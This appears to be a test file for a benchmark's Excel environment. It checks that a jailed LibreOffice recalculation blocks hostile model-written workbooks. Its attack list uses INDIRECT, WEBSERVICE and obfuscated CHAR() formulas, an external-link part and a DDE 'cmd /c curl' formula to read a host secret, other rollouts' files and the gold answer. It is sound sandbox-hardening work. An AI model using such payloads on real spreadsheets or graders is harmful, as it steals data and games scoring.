/**
 * The LibreOffice recalculation, attacked from the model's side (issue 28): workbooks the model writes through the
 * tools (real rollouts) or hands to `benchmax score`, in both recalc modes (embedded with the LibreOffice fallback,
 * and recalc=libreoffice). A loopback listener must see zero hits, a host workbook must stay unread, rollouts must
 * not see each other or the gold, and a conversion that hangs is killed with everything under it.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type AssistantMessage, type Policy, runRollout, scoreCase } from "@benchmax/core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ExcelTask } from "./dataset.js";
import { createExcelEnv } from "./index.js";
import { findSoffice, LibreOfficeRecalc, OutputRecalcError } from "./libreoffice.js";
import { rawSheetXlsx, zipFiles } from "./raw-xlsx.js";
import { scoreOneCase } from "./reward.js";
import { cpuCgroupSupport } from "./sandbox/cgroup.js";
import { jailCpuMs } from "./sandbox/freeze.js";
import { defaultJailCpus, ipcIsolated, jailAvailable } from "./sandbox/jail.js";
import { cellKey, XlsxValues } from "./xlsx-values.js";
import { ZipReader } from "./zip.js";

const soffice = findSoffice();
if (!soffice) console.warn("[env-excel] skipping the LibreOffice seal tests: soffice is not installed");
const jail = jailAvailable();
if (soffice && !jail.ok)
  console.warn(`[env-excel] skipping the LibreOffice seal tests: the jail cannot be built here (${jail.reason})`);

const hits: string[] = [];
let server: Server;
let port = 0;
const dir = mkdtempSync(join(tmpdir(), "excel-seal-"));
const HOST = join(dir, "host.xlsx");
const inline = (r: string, s: string) => `<c r="${r}" t="inlineStr"><is><t>${s}</t></is></c>`;

beforeAll(async () => {
  // a host workbook holding a secret and the gold's answer (777)
  writeFileSync(HOST, rawSheetXlsx([inline("A1", "HOST-SECRET"), '<c r="B8"><v>777</v></c>']));
  server = createServer((req, res) => {
    hits.push(req.url ?? "");
    if (req.url?.includes("stall")) return; // never answers
    res.end("x");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => {
  server?.closeAllConnections?.();
  server?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** A string expression with no literal a static check can see: CHAR(39)&CHAR(47)&… */
const hidden = (s: string) => [...s].map((c) => `CHAR(${c.charCodeAt(0)})`).join("&");
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;

/** Formulas that try to reach a host file, the network, the gold and other rollouts' files. */
function attacks(cell = "A1"): string[] {
  const url = `http://127.0.0.1:${port}`;
  return [
    `INDIRECT(${q(`'${dir}/[host.xlsx]Sheet1'!${cell}`)})`,
    `INDIRECT(${q(`'file://${dir}/[host.xlsx]Sheet1'!${cell}`)})`,
    `INDIRECT(${hidden(`'${dir}/[host.xlsx]Sheet1'!${cell}`)})`,
    `INDIRECT(${hidden(`'file://${dir}/host.xlsx'#$Sheet1.${cell}`)})`,
    `INDIRECT(${q(`'${url}/static/[x.xlsx]Sheet1'!A1`)})`,
    `INDIRECT(${hidden(`'${url}/hidden/[x.xlsx]Sheet1'!A1`)})`,
    `INDIRECT(${hidden(`'${url}/stall/[x.xlsx]Sheet1'!A1`)})`,
    `WEBSERVICE(${hidden(`${url}/ws`)})`,
    `INDIRECT(${hidden("'[book0.xlsx]Sheet1'!A20")})`,
    `INDIRECT(${hidden("'[book1.xlsx]Sheet1'!A20")})`,
  ];
}

/** One formula that concatenates every attack's result (each behind IFERROR), so one cell shows what leaked. */
const joined = (list: string[]) => list.map((a) => `IFERROR(${a},"E")`).join('&"|"&');
/** The embedded engine cannot evaluate CELL("filename"): the case falls back to LibreOffice. */
const forceFallback = (f: string) => `IF(LEN(CELL("filename"))>=0,${f})`;

function writer(cells: Record<string, string>): Policy {
  return {
    name: "attacker",
    async act({ turn }) {
      const message: AssistantMessage =
        turn === 0
          ? {
              role: "assistant",
              content: null,
              tool_calls: Object.entries(cells).map(([cell, value], i) => ({
                id: `c${i}`,
                type: "function",
                function: { name: "write_cell", arguments: JSON.stringify({ cell, value }) },
              })),
            }
          : { role: "assistant", content: "done" };
      return { message };
    },
  };
}

type Case = { pass: boolean; message: string; mismatches: Array<{ actual: string }> };
const actuals = (cases: Case[]) => cases.flatMap((c) => c.mismatches.map((m) => m.actual)).join(" ");

/** Pids of a process and everything under it (while it runs). */
function descendants(pid: number): number[] {
  const out = [pid];
  for (let i = 0; i < out.length; i++) {
    try {
      for (const t of readdirSync(`/proc/${out[i]}/task`)) {
        const kids = readFileSync(`/proc/${out[i]}/task/${t}/children`, "utf8").trim();
        if (kids) out.push(...kids.split(/\s+/).map(Number));
      }
    } catch {
      /* gone */
    }
  }
  return out;
}
/** A process's start time (clock ticks since boot: /proc/PID/stat field 22), or undefined once it is gone. */
const startedAt = (pid: number): string | undefined => {
  try {
    return readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1]?.split(" ")[19];
  } catch {
    return undefined;
  }
};
/**
 * Whether a process is still running (not a zombie); with `since`, only the one that started then: the kernel hands a
 * dead process's pid to the next one (pid_max may be 32768), so a pid alone can name another machine's process.
 */
const alive = (pid: number, since?: string) => {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
    return !/^\S+ \(.*\) Z/.test(stat) && (since === undefined || startedAt(pid) === since);
  } catch {
    return false;
  }
};

/** A workbook LibreOffice takes far longer than the test's limit to recalculate (CPU only, little memory). */
function slowBook(): Buffer {
  const cells: string[] = [];
  for (let r = 1; r <= 20_000; r++) cells.push(`<c r="A${r}"><f>SUMPRODUCT(ROW($C$1:$C$1000000)*${r})</f></c>`);
  return rawSheetXlsx(cells);
}

/** A cell's cached value as text (`2`, `HOST-SECRET`), or "None". */
function cellText(xlsx: Buffer, cell: string): string {
  const m = /^([A-Z]+)(\d+)$/.exec(cell)!;
  const col = [...m[1]!].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0);
  const row = Number(m[2]);
  const v = new XlsxValues(xlsx).readCells("Sheet1", [{ minCol: col, maxCol: col, minRow: row, maxRow: row }]);
  const got = v.get(cellKey(row, col));
  if (got === null || got === undefined) return "None";
  return typeof got === "object" && got.kind === "int" ? String(got.value) : String(got);
}

describe.skipIf(!soffice)("LibreOffice jail", () => {
  it("is on wherever the machine can build it (and on in CI on Linux)", () => {
    const lo = new LibreOfficeRecalc({ soffice: soffice! });
    expect(lo.jailed).toBe(jail.ok);
    if (process.platform === "linux" && process.env.CI) expect(lo.jailed, lo.jailReason).toBe(true);
  });
});

describe.skipIf(!soffice || !jail.ok)("LibreOffice seal", () => {
  for (const mode of ["libreoffice", "embedded"] as const) {
    it(`recalc=${mode}: a real rollout reads no host file, reaches no listener, sees no other rollout`, async () => {
      const env = createExcelEnv({ recalc: mode });
      try {
        const [task] = (await env.capabilities!.tasks!.loadTasks!()).filter((t) => t.id === "101") as ExcelTask[];
        const before = hits.length;
        // each attack in its own cell (the static ones are refused to #REF!, the computed ones reach LibreOffice in
        // its jail); the answer cell joins what each one got
        const list = attacks();
        const refs = list.map((_, i) => `C${i + 1}`);
        // CELL("filename") shows LibreOffice evaluated the cell (the engine cannot), and the file's random name
        const f = `${joined(refs)}&"|"&CELL("filename")`;
        const cells = Object.fromEntries(list.map((a, i) => [refs[i]!, `=${a}`]));
        const roll = (mark: string) =>
          runRollout(
            env,
            task!,
            writer({ ...cells, A20: mark, B8: `=${mode === "embedded" ? forceFallback(f) : f}` }),
            { maxTurns: 3 },
          );
        const [a, b] = await Promise.all([roll("MARK-901"), roll("MARK-902")]);
        for (const [r, other] of [
          [a, "MARK-902"],
          [b, "MARK-901"],
        ] as const) {
          expect(r.error).toBeUndefined();
          expect(r.outcome).toBe("completed");
          expect(r.rewards).toEqual({ pass: 0, soft: 0 });
          const seen = actuals(r.metadata!.cases as Case[]);
          expect(seen).toMatch(/^"E(\|E)+\|[^"]*\/[0-9a-f]{32}\.xlsx/); // LibreOffice evaluated the answer cell
          // the file's random hex name may hold "777" by chance: look past it
          const values = seen.replace(/[0-9a-f]{32}\.xlsx/g, "<random>.xlsx");
          expect(values).not.toMatch(/HOST-SECRET|777/);
          expect(values).not.toContain(other);
        }
        expect(hits.slice(before)).toEqual([]);
      } finally {
        await env.close();
      }
      // the env's close stopped the spare LibreOffice its first model-written file started: none of this process's
      // spares is left, nor its folder
      if (mode === "libreoffice")
        expect(readdirSync(tmpdir()).filter((n) => n.startsWith(`benchmax-lo-${process.pid}-spare-`))).toEqual([]);
    }, 300_000);
  }

  it("benchmax score: the issue's probes (host file = the gold's value, links, DDE, linked picture) score 0, no hit", async () => {
    const gold = rawSheetXlsx(['<c r="B8"><v>777</v></c>']);
    writeFileSync(join(dir, "gold.xlsx"), gold);
    const task = { answer_position: "B8" };
    const before = hits.length;
    const outputs: Record<string, Buffer> = {};
    const xml = (f: string) => forceFallback(f).replace(/&/g, "&amp;").replace(/"/g, "&quot;");
    attacks("B8").forEach((a, i) => {
      outputs[`a${i}.xlsx`] = rawSheetXlsx([`<c r="B8"><f>${xml(a)}</f></c>`]);
    });
    // an external-link part (with its cached 777) and a DDE formula
    outputs["link.xlsx"] = externalLinkBook(`http://127.0.0.1:${port}/link/x.xlsx`);
    outputs["dde.xlsx"] = rawSheetXlsx([`<c r="B8"><f>${xml(`cmd|'/c curl 127.0.0.1:${port}/dde'!A1`)}</f></c>`]);
    for (const [name, bytes] of Object.entries(outputs)) writeFileSync(join(dir, name), bytes);
    for (const recalc of ["libreoffice", "embedded"] as const) {
      const env = createExcelEnv({ recalc });
      try {
        const results = await Promise.all(
          Object.keys(outputs).map((outputFile) =>
            scoreCase(env, { id: outputFile, task, outputFile, goldFile: "gold.xlsx" }, { baseDir: dir, options: {} }),
          ),
        );
        results.forEach((r, i) => {
          expect(r.reward, `${recalc} ${Object.keys(outputs)[i]}`).toBe(0);
        });
      } finally {
        await env.close();
      }
    }
    expect(hits.slice(before)).toEqual([]);
  }, 300_000);

  it("golds and outputs never share a batch; outputs in one batch cannot name each other", async () => {
    const lo = new LibreOfficeRecalc({ soffice: soffice!, batchWindowMs: 1500, concurrency: 1 });
    const gold = rawSheetXlsx([inline("A20", "GOLD-SECRET"), '<c r="B1"><f>1+1</f></c>']);
    const probe = (mark: string) => {
      const guesses = [0, 1, 2, 3].map((i) => `INDIRECT(${hidden(`'[book${i}.xlsx]Sheet1'!A20`)})`);
      const f = `${joined(guesses)}&"|"&CELL("filename")`.replace(/&/g, "&amp;").replace(/"/g, "&quot;");
      return rawSheetXlsx([inline("A20", mark), `<c r="B8"><f>${f}</f></c>`]);
    };
    const start = lo.processes;
    const [g, o1, o2] = await Promise.all([
      lo.recalc(gold, "gold"),
      lo.recalc(probe("MARK-1"), "output"),
      lo.recalc(probe("MARK-2"), "output"),
    ]);
    // one batch of golds (one file: one process), one of outputs (two files: converted from both ends)
    expect(lo.processes - start).toBe(3);
    expect(cellText(g, "B1")).toBe("2");
    for (const [o, other] of [
      [o1, "MARK-2"],
      [o2, "MARK-1"],
    ] as const) {
      const v = String(cellText(o, "B8"));
      expect(v).toMatch(/^E\|E\|E\|E\|/);
      expect(v).not.toMatch(/GOLD-SECRET|book\d\.xlsx/);
      expect(v).not.toContain(other);
    }
  }, 300_000);

  it("a conversion that hangs is killed with everything under it; the rest of its batch is converted", async () => {
    // a limit far above a normal conversion even on a loaded machine; the slow file needs minutes
    const lo = new LibreOfficeRecalc({ soffice: soffice!, timeoutMs: 45_000, batchWindowMs: 500, concurrency: 1 });
    // every process of the jail seen, with its start time (a pid used twice is two processes)
    const seen = new Map<string, [number, string]>();
    const watch = setInterval(() => {
      for (const p of lo.running)
        for (const d of descendants(p)) {
          const t = startedAt(d);
          if (t !== undefined) seen.set(`${d}:${t}`, [d, t]);
        }
    }, 200);
    try {
      const good = rawSheetXlsx(['<c r="A1"><f>6*7</f></c>']);
      const [slow, ok] = await Promise.allSettled([lo.recalc(slowBook()), lo.recalc(good)]);
      expect(slow.status).toBe("rejected");
      expect((slow as PromiseRejectedResult).reason).toBeInstanceOf(OutputRecalcError);
      expect(String((slow as PromiseRejectedResult).reason)).toMatch(/timed out after 45000 ms/);
      expect(ok.status, String((ok as PromiseRejectedResult).reason)).toBe("fulfilled");
      expect(cellText((ok as PromiseFulfilledResult<Buffer>).value, "A1")).toBe("42");
      // the jail's processes (soffice.bin included) were seen running, and none is left
      expect(seen.size).toBeGreaterThan(2);
      const cmd = (p: number) => {
        try {
          return readFileSync(`/proc/${p}/cmdline`, "utf8").replace(/\0/g, " ").slice(0, 120);
        } catch {
          return "";
        }
      };
      const still = [...seen.values()].filter(([p, t]) => alive(p, t)).map(([p]) => p);
      expect(still, still.map((p) => `${p}: ${cmd(p)}`).join("; ")).toEqual([]);
      expect(lo.running.size).toBe(0);
      // scratch folders removed (the process's profile template stays until exit)
      const left = readdirSync(tmpdir()).filter((n) => new RegExp(`^benchmax-lo-${process.pid}-[0-9a-f]+$`).test(n));
      expect(left).toEqual([]);
    } finally {
      clearInterval(watch);
    }
  }, 300_000);

  it("a batch runs in its own IPC namespace and, where a CPU cgroup is writable, at most 1 CPU (a hanging model file)", async () => {
    const lo = new LibreOfficeRecalc({ soffice: soffice!, timeoutMs: 15_000, batchWindowMs: 100, concurrency: 1 });
    const comm = (p: number) => {
      try {
        return readFileSync(`/proc/${p}/comm`, "utf8").trim();
      } catch {
        return "";
      }
    };
    const slow = lo.recalc(slowBook()).catch((e: Error) => e);
    let batch: number | undefined;
    let office: number | undefined;
    for (let i = 0; i < 600 && office === undefined; i++) {
      await new Promise((r) => setTimeout(r, 50));
      for (const p of lo.running)
        for (const d of descendants(p))
          if (comm(d) === "soffice.bin") {
            batch = p;
            office = d;
          }
    }
    expect(office, "soffice.bin seen running").toBeDefined();
    const ns = (p: number) => readlinkSync(`/proc/${p}/ns/ipc`);
    if (ipcIsolated()) expect(ns(office!)).not.toBe(ns(process.pid));
    else console.warn(`[env-excel] the LibreOffice jail has no IPC namespace here: ${jail.reason}`);
    const capped = !!cpuCgroupSupport() && defaultJailCpus() > 0;
    if (capped) expect(readFileSync(`/proc/${office}/cgroup`, "utf8")).toMatch(/benchmax-jails-\d+\/j\d+/);
    else
      console.warn("[env-excel] no CPU cgroup for LibreOffice batches here: they are bounded by their time limit only");
    // the batch's CPU over wall time while it computes (bounded by its quota, whatever the file asks for)
    const c0 = jailCpuMs(batch!);
    const t0 = performance.now();
    await new Promise((r) => setTimeout(r, 2000));
    const rate = (jailCpuMs(batch!) - c0) / (performance.now() - t0);
    console.info(
      `[env-excel] a hanging LibreOffice batch ran at ${rate.toFixed(2)} CPUs (${capped ? "quota 1" : "no quota"})`,
    );
    if (capped) expect(rate).toBeLessThan(1.35);
    expect(String(await slow)).toMatch(/timed out after 15000 ms/);
    expect(lo.running.size).toBe(0);
  }, 120_000);

  it("a model-written file that hangs scores 0 through the scorer (not env_error)", async () => {
    const lo = new LibreOfficeRecalc({ soffice: soffice!, timeoutMs: 4000 });
    writeFileSync(join(dir, "gold2.xlsx"), rawSheetXlsx(['<c r="A1"><v>1</v></c>']));
    writeFileSync(join(dir, "slow.xlsx"), slowBook());
    const r = await scoreOneCase(
      { id: "s", task: { answer_position: "A1" }, outputFile: "slow.xlsx", goldFile: "gold2.xlsx" },
      { baseDir: dir, options: {} },
      { mode: "libreoffice", libreoffice: () => lo },
    );
    expect(r.reward).toBe(0);
    expect(String(r.metadata?.message)).toMatch(/could not recalculate the workbook: soffice timed out/);
  }, 300_000);

  it("leaves the host workbook unread and unchanged", () => {
    expect(existsSync(HOST)).toBe(true);
    expect(cellText(readFileSync(HOST), "A1")).toBe("HOST-SECRET");
  });
});

/** A workbook with an external-link part to `url` whose cache holds 777, and `=[1]Sheet1!A1` in B8. */
function externalLinkBook(url: string): Buffer {
  const base = new ZipReader(
    rawSheetXlsx([`<c r="B8"><f>IF(LEN(CELL(&quot;filename&quot;))&gt;=0,[1]Sheet1!A1)</f><v>777</v></c>`]),
  );
  const files: Array<[string, string | Buffer]> = [];
  for (const name of base.names()) {
    let text = base.readText(name);
    if (name === "xl/workbook.xml")
      text = text.replace(
        "</sheets>",
        '</sheets><externalReferences><externalReference r:id="rId90"/></externalReferences>',
      );
    if (name === "xl/_rels/workbook.xml.rels")
      text = text.replace(
        "</Relationships>",
        '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
      );
    if (name === "[Content_Types].xml")
      text = text.replace(
        "</Types>",
        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
      );
    files.push([name, text]);
  }
  files.push([
    "xl/externalLinks/externalLink1.xml",
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>777</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>',
  ]);
  files.push([
    "xl/externalLinks/_rels/externalLink1.xml.rels",
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${url}" TargetMode="External"/></Relationships>`,
  ]);
  return zipFiles(files);
}
